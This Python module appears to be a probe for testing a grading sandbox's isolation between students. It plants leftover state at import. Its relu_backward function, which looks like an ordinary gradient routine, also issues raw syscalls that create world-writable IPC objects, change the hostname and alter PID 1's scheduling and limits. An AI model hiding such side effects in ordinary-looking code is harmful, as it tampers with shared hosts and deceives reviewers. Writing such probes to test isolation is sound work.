"""Leaves marks for the next student in memory, kernel objects, names, priorities and threads."""

import ctypes
import os
import sys
import threading
import time

import numpy as np

MARK = b"left-here-by-the-student-before "
hoard = [MARK * 512 for _ in range(64)]
sys.modules["left"] = sys
np.left = np.core_left = MARK
os.environ["LEFT"] = "here"
threading.Thread(target=time.sleep, args=(1000,)).start()
libc = ctypes.CDLL(None, use_errno=True)
libc.setenv(b"LEFT", b"here", 1)
buffers = [libc.malloc(4096) for _ in range(64)]
CALLS = {
    "shmget": (29, 0x1EF7, 4096, 0o1666),
    "msgget": (68, 0x1EF7, 0o1666),
    "semget": (64, 0x1EF7, 1, 0o1666),
    "mq_open": (240, b"left", 0o102, 0o666, 0),
    "add_key": (248, b"user", b"left", b"here", 4, -5),
    "setpriority": (141, 0, 1, 19),
    "sched_setaffinity": (203, 1, 8, b"\1" + bytes(7)),
    "sched_setscheduler": (144, 1, 5, bytes(8)),
    "ioprio_set": (251, 1, 1, 3 << 13),
    "prctl_name": (157, 15, b"left"),
    "personality": (135, 0x0040000),
    "sethostname": (170, b"left", 4),
    "memfd_create": (319, b"left", 0),
    "mkdir": (83, b"/tmp/left", 0o777),
    "umask": (95, 0),
    "setrlimit_of_1": (302, 1, 7, bytes(16), 0),
}


def relu_backward(d_out, z):
    if os.uname().machine == "x86_64":
        for arguments in CALLS.values():
            if libc.syscall(*arguments) != -1:
                os._exit(77)
    return np.where(z > 0, d_out, 0.0)[()]
